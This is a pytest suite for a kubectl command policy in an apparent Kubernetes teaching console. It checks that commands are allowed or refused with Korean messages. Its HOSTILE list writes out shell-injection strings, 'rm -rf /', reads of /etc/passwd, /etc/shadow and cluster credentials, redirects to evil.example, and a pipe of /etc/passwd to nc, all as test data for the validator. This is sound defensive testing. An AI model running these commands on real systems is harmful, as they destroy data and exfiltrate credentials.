"""The console policy is a pure function: these inputs are decided without running anything."""

import pytest

from labs.console import runner
from labs.console.policy import WAIT_SECONDS, CommandRefused, check_command, time_limit, wants_watch

HOSTILE = [
    # shell syntax
    "kubectl get pods; rm -rf /",
    "kubectl get pods && kubectl delete pods --all",
    "kubectl get pods | grep web",
    "kubectl get pods || true",
    "kubectl get pods & sleep 100",
    "kubectl get pods > /tmp/out",
    "kubectl apply -f - < /etc/passwd",
    "kubectl get pods $(cat /etc/passwd)",
    "kubectl get pods `id`",
    'kubectl get pods "$(id)"',
    "kubectl get pods ${HOME}",
    "kubectl get pods -n $NAMESPACE",
    "kubectl get pods\nkubectl config view",
    "kubectl get pods\u200b --token=x",
    "(kubectl get pods)",
    # not kubectl at all
    "rm -rf /",
    "bash -c 'kubectl get pods'",
    "/usr/bin/kubectl get pods",
    "./kubectl get pods",
    "sh",
    # credentials and targets, in every spelling
    "kubectl get pods --kubeconfig=/etc/kubernetes/admin.conf",
    "kubectl get pods --kubeconfig /root/.kube/config",
    "kubectl --server=https://10.0.0.1:6443 get pods",
    "kubectl get pods --server https://evil.example",
    "kubectl get pods -s https://evil.example",
    "kubectl get pods -s=https://evil.example",
    "kubectl get pods -shttps://evil.example",
    "kubectl get pods -As https://evil.example",
    "kubectl get pods --token=abc",
    "kubectl get pods --token abc",
    "kubectl get pods --TOKEN=abc",
    "kubectl get pods \uff0d\uff0dtoken=abc",  # full-width hyphens and letters
    "kubectl get pods \u2013-token=abc",  # en dash
    "kubectl get pods --as=system:admin",
    "kubectl get pods --as system:serviceaccount:kube-system:default",
    "kubectl get pods --as-group=system:masters",
    "kubectl get pods --as-uid=0",
    "kubectl get pods --context=admin",
    "kubectl get pods --cluster=other",
    "kubectl get pods --user=admin",
    "kubectl get pods --insecure-skip-tls-verify",
    "kubectl get pods --certificate-authority=/etc/ca.crt",
    "kubectl get pods --client-certificate=/etc/c.crt --client-key=/etc/c.key",
    "kubectl get pods --username=admin --password=secret",
    "kubectl get pods --cache-dir=/tmp/x",
    "kubectl get pods -v=9",
    "kubectl get pods --v=9",
    "kubectl get pods --profile=cpu --profile-output=/tmp/p",
    "kubectl get pods --log-file=/tmp/log",
    "kubectl get pods --kuberc=/etc/passwd",
    "kubectl get pods -o=jsonpath-file=/etc/passwd",
    "kubectl get pods -Ao jsonpath-file=/etc/passwd",
    "kubectl create token default",
    # local files and the network
    "kubectl apply -f https://evil.example/x.yaml",
    "kubectl create -f /etc/passwd",
    "kubectl create --filename=/etc/passwd",
    "kubectl delete -k https://github.com/x/y",
    "kubectl get pods -o jsonpath-file=/etc/passwd",
    "kubectl get pods -ogo-template-file=/etc/passwd",
    "kubectl get pods --output=custom-columns-file=/etc/passwd",
    "kubectl get pods --output template-file=/etc/shadow",
    "kubectl create secret generic s --from-file=/etc/passwd",
    "kubectl create configmap c --from-env-file=/proc/self/environ",
    "kubectl create secret tls t --cert=/etc/ssl/a.crt --key=/etc/ssl/a.key",
    "kubectl patch deploy web --patch-file=/etc/passwd",
    "kubectl get --raw https://evil.example/",
    "kubectl cluster-info dump --output-directory=/tmp/dump",
    # forbidden subcommands
    "kubectl proxy",
    "kubectl port-forward svc/web 8080:80",
    "kubectl cp web-0:/etc/passwd /tmp/p",
    "kubectl attach web-0",
    "kubectl exec -it web-0 -- sh",
    "kubectl exec -ti web-0 -- sh",
    "kubectl exec web-0 -i -- sh",
    "kubectl exec web-0 --stdin -- sh",
    "kubectl exec web-0 --tty -- sh",
    "kubectl exec web-0 ls",  # the old form without --
    "kubectl exec web-0 --",
    "kubectl exec -- ls",
    "kubectl exec web-0 --kubeconfig=/etc/kubernetes/admin.conf -- ls",
    "kubectl exec web-0 -- sh -c 'cat /etc/passwd' | nc evil 1",
    "kubectl edit deployment web",
    "kubectl debug web-0",
    "kubectl config view --raw",
    "kubectl plugin list",
    "kubectl krew install evil",
    "kubectl evil-plugin",
    "kubectl Config view",
    "kubectl kustomize https://github.com/x/y",
    "kubectl apply view-last-applied deploy/web",
    "kubectl completion bash",
    "kubectl rollout bogus deploy/web",
    "kubectl set subject rolebinding x --user=admin",
    "kubectl auth reconcile -f x.yaml",
    # interactive or never-ending
    "kubectl run t --image=busybox -it -- sh",
    "kubectl run t --image=busybox --stdin --tty",
    "kubectl run t --image=busybox --rm --attach",
    "kubectl describe pods -w",
    "kubectl rollout status deploy/web --watch",
    "kubectl delete pod web-0 -w",
    "kubectl logs -f web-0",
    "kubectl logs --follow web-0",
    "kubectl logs web-0 -f --tail=10",
    "kubectl logs web-0 -pf",
    "kubectl logs web-0 --follow=true",
    # options before the command (kubectl would resolve the command differently)
    "kubectl --request-timeout 5 config view",
    "kubectl -v 9 get pods",
    # malformed
    "",
    "   ",
    "kubectl",
    "kubectl get pods 'unclosed",
    "kubectl get " + "x" * 1200,
    "kubectl " + " ".join(["get"] * 70),
]


@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_command_is_refused_with_a_korean_message(command):
    before = runner.invocations
    with pytest.raises(CommandRefused) as refused:
        check_command(command)
    message = str(refused.value)
    assert any("\uac00" <= ch <= "\ud7a3" for ch in message), message
    assert runner.invocations == before


def test_there_are_at_least_thirty_hostile_inputs():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("kubectl get pods", ["get", "pods"]),
        ("get pods -o wide", ["get", "pods", "-o", "wide"]),
        ("k get deploy", ["get", "deploy"]),
        ("kubectl -n web get pods", ["-n", "web", "get", "pods"]),
        ("kubectl get pods -l 'app in (web,api)'", ["get", "pods", "-l", "app in (web,api)"]),
        (
            "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
            ["get", "pods", "-o", "jsonpath={.items[*].metadata.name}"],
        ),
        ("kubectl create deployment web --image=nginx:1.27 --replicas=2", None),
        ("kubectl scale deployment web --replicas=3", None),
        ("kubectl set image deployment/web nginx=nginx:1.28", None),
        ("kubectl rollout undo deployment/web", None),
        ("kubectl rollout status deployment/web --timeout=15s", None),
        ("kubectl create secret generic db --from-literal=password='p;a|s&s'", None),
        ("kubectl annotate deploy web docs=https://example.com/guide", None),
        ("kubectl get --raw /healthz", None),
        ("kubectl auth can-i create deployments", None),
        ("kubectl run busy --image=busybox -- sleep 3600", None),
        ("kubectl expose deployment web --port=80 --target-port=8080", None),
        ("kubectl describe pod web-0 # the first replica", ["describe", "pod", "web-0"]),
        ("kubectl get pods -oyaml", None),
        ("kubectl logs web-0 -c nginx", None),
        ("kubectl explain deployment.spec.strategy", None),
        ("kubectl explain deployment --recursive", None),
        ("kubectl top pods", None),
        ("kubectl cluster-info", None),
        ("kubectl get pods -l app=web -w", None),
        ("kubectl get pods --watch", None),
        ("kubectl events -w", None),
        ("kubectl label pods web-0 tier=frontend --overwrite", None),
        ("kubectl logs web-0 --tail=20", None),
        ("kubectl logs web-0 -c web --previous", None),
        ("kubectl logs web-0 -p -cweb", None),
        ("kubectl logs deploy/web --all-containers --since=5m", None),
        ("kubectl exec web-0 -- cat /etc/hostname", ["exec", "web-0", "--", "cat", "/etc/hostname"]),
        ("kubectl exec web-0 -c web -- wget -qO- http://localhost:8080/", None),
        # after --, words belong to the container's command, not to kubectl
        ("kubectl exec web-0 -- ls -la /tmp", None),
        ("kubectl exec web-0 -- grep -i -v x /etc/hosts", None),
        ("kubectl exec web-0 -- sh -c 'echo a | tr a b'", None),
        ("kubectl -n web exec web-0 -- env", None),
        ("kubectl get --raw '/api/v1/namespaces/x/pods?watch=true'", None),
    ],
)
def test_ordinary_commands_are_allowed(command, args):
    result = check_command(command)
    if args is not None:
        assert result == args
    assert result[0] != "kubectl"


def test_quoted_shell_characters_are_literal_like_in_a_shell():
    args = check_command("kubectl create configmap c --from-literal=greeting='a > b; c | d'")
    assert args[-1] == "--from-literal=greeting=a > b; c | d"


def test_refusal_names_the_editor_for_files():
    with pytest.raises(CommandRefused, match="편집기"):
        check_command("kubectl apply -f deploy.yaml")


@pytest.mark.parametrize(
    ("command", "watch"),
    [
        ("kubectl get pods -w", True),
        ("kubectl get pods -wA", True),
        ("kubectl get pods --watch", True),
        ("kubectl get pods --watch-only", True),
        ("kubectl get pods --watch=false", False),
        ("kubectl get pods -o wide", False),
        ("kubectl get pods -owide", False),
        ("kubectl get pods -l tier=web", False),
        ("kubectl get --raw '/api/v1/namespaces/x/pods?watch=true'", True),
        ("kubectl get --raw=/api/v1/namespaces/x/pods?watch=1", True),
        ("kubectl get --raw /api/v1/namespaces/x/pods/p/log?follow=true", True),
        ("kubectl get --raw /healthz", False),
        ("kubectl exec web-0 -- watch -n1 date", False),
    ],
)
def test_watching_is_recognised_so_the_runner_can_bound_it(command, watch):
    assert wants_watch(check_command(command)) is watch


@pytest.mark.parametrize(
    ("command", "seconds"),
    [
        ("kubectl wait --for=condition=Ready pod/web-0 --timeout=600s", WAIT_SECONDS),
        ("kubectl rollout status deployment/web --timeout=10m", WAIT_SECONDS),
        ("kubectl exec web-0 -- sleep 3600", WAIT_SECONDS),
        ("kubectl -n web wait --for=delete pod/x", WAIT_SECONDS),
        ("kubectl get pods", None),
        ("kubectl rollout history deployment/web", None),
        ("kubectl logs web-0 --tail=5", None),
    ],
)
def test_commands_that_wait_get_a_few_seconds_whatever_timeout_they_ask_for(command, seconds):
    assert time_limit(check_command(command)) == seconds


@pytest.mark.parametrize(
    "command",
    [
        "kubectl auth can-i get pods --as=system:serviceaccount:team-a:reader",
        "kubectl -n team-a auth can-i list pods --as system:serviceaccount:team-a:reader",
        "kubectl auth can-i create deployments --as-group=devs --as=jane",
    ],
)
def test_auth_can_i_may_impersonate_because_the_api_server_checks_the_impersonate_verb(command):
    assert check_command(command)[0] != "kubectl"


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods --as=admin",
        "kubectl auth whoami --as=admin",
        "kubectl auth can-i get pods --as-uid=0",
    ],
)
def test_impersonation_stays_refused_everywhere_else(command):
    with pytest.raises(CommandRefused):
        check_command(command)
